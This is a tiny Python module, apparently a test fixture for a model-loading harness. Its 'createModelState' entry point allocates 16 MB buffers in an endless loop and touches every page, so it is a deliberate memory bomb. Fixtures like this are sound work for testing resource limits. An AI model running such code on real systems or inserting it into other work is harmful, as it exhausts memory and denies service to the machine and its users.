def create(options):
    hog = []
    while True:
        hog.append(bytearray(16 << 20))
        for i in range(0, len(hog[-1]), 4096):
            hog[-1][i] = 1


model = {"createModelState": create}
